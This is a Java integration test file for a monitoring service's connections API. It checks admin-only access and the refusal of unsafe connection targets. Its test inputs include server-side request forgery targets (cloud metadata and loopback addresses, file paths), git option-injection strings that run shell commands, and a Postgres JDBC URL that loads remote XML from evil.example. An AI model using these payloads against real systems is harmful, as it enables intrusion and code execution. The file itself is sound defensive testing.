package dev.attest.monitoring;

import dev.attest.monitoring.internal.Connections;
import dev.attest.support.AttestTest;
import dev.attest.support.ExtraAccounts;
import dev.attest.support.Http;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Connections make the server reach into networks, so only admins create them, and their targets
 * go through the operator's policy. The test profile allows 127.0.0.1 (for the collector tests); every
 * other loopback address, link-local and metadata address and local path keeps the default refusal.
 */
@AttestTest
class ConnectionTargetsTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    Connections connections;

    private Http admin() {
        return Http.withToken(port, AttestTest.ADMIN_TOKEN);
    }

    private static String connection(String kind, String target) {
        return JSON.writeValueAsString(Map.of("name", "probe " + UUID.randomUUID(), "kind", kind, "target", target));
    }

    private long connectionsNamedProbe() {
        return jdbc.sql("select count(*) from monitoring_connection where name like 'probe %'").query(Long.class).single();
    }

    @Test
    void aControlOwnerOrComplianceManagerCannotCreateChangeOrDeleteAConnection() {
        String id = admin().postJson("/api/v1/connections", connection("tls", "192.0.2.10:443")).json().get("id").asText();
        for (String role : new String[]{"control_owner", "compliance_manager"}) {
            Http member = Http.withToken(port, ExtraAccounts.inDefaultWorkspace(jdbc, role).token());
            assertThat(member.postJson("/api/v1/connections", connection("postgres", "192.0.2.11:5432/postgres")).status()).as(role)
                    .isEqualTo(403);
            assertThat(member.patchJson("/api/v1/connections/" + id, "{\"target\": \"10.0.0.1:443\"}").status()).as(role).isEqualTo(403);
            assertThat(member.delete("/api/v1/connections/" + id).status()).as(role).isEqualTo(403);
            assertThat(member.get("/api/v1/connections/" + id).status()).as(role + " still reads it").isEqualTo(200);
        }
        assertThat(admin().get("/api/v1/connections/" + id).json().get("target").asText()).isEqualTo("192.0.2.10:443");
    }

    @Test
    void loopbackLinkLocalMetadataAndLocalPathTargetsAreRefusedNamingTheTarget() {
        long before = connectionsNamedProbe();
        for (String[] target : new String[][]{
                {"postgres", "127.0.0.2:5432/postgres"}, {"tls", "https://169.254.169.254/latest/meta-data/"}, {"tls", "[fe80::1]:443"},
                {"git", "file:///etc"}, {"git", "/var/lib/attest"}, {"tls", "2130706433:443"}}) {
            var response = admin().postJson("/api/v1/connections", connection(target[0], target[1]));

            assertThat(response.status()).as("%s %s: %s", target[0], target[1], response.body()).isEqualTo(400);
            JsonNode error = response.json().get("errors").get(0);
            assertThat(error.get("field").asText()).isEqualTo("target");
        }
        assertThat(connectionsNamedProbe()).as("nothing saved").isEqualTo(before);
    }

    @Test
    void aGitTargetThatLooksLikeAnOptionOrATransportCommandIsRefused() {
        for (String target : new String[]{"--upload-pack=touch /tmp/attest-pwned", "-c", "ext::sh -c touch% /tmp/attest-pwned"}) {
            var response = admin().postJson("/api/v1/connections", connection("git", target));
            assertThat(response.status()).as(target).isEqualTo(400);
            assertThat(response.json().get("errors").get(0).get("field").asText()).isEqualTo("target");
        }
        assertThat(new java.io.File("/tmp/attest-pwned")).doesNotExist();
    }

    @Test
    void aPostgresUrlCannotCarryDriverParametersThatLoadClassesOrWriteFiles() {
        var response = admin().postJson("/api/v1/connections", connection("postgres",
                "jdbc:postgresql://db.internal:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil.example/x.xml"));
        assertThat(response.status()).isEqualTo(400);
        assertThat(response.json().get("errors").get(0).get("message").asText()).contains("socketFactory");
    }

    @Test
    void aTargetChangedToALoopbackAddressIsRefusedAndTheStoredOneKept() {
        String id = admin().postJson("/api/v1/connections", connection("tls", "192.0.2.10:443")).json().get("id").asText();
        var response = admin().patchJson("/api/v1/connections/" + id, "{\"target\": \"127.0.0.2:443\"}");
        assertThat(response.status()).isEqualTo(400);
        assertThat(admin().get("/api/v1/connections/" + id).json().get("target").asText()).isEqualTo("192.0.2.10:443");
    }

    @Test
    void aRunChecksTheTargetAgainBeforeItConnects() {
        // Saved before the policy existed (or before the operator narrowed it): the run refuses it and collects nothing.
        UUID id = UUID.randomUUID();
        UUID workspace = jdbc.sql("select id from workspace where slug = 'default'").query(UUID.class).single();
        var now = java.time.OffsetDateTime.now(java.time.ZoneOffset.UTC);
        jdbc.sql("insert into monitoring_connection (id, workspace_id, name, kind, target, interval_minutes, enabled, next_run_at, "
                        + "created_at, created_by) values (?, ?, ?, 'tls', '127.0.0.2:1', 60, true, ?, ?, 'test')")
                .params(id, workspace, "probe old " + id, now.plusHours(1), now).update();

        ConnectionRun run = connections.runAndWait(TestWorkspaces.defaultWorkspace(jdbc), id, "test");

        assertThat(run.status()).isEqualTo("failed");
        assertThat(run.error()).contains("target refused").contains("loopback");
    }
}
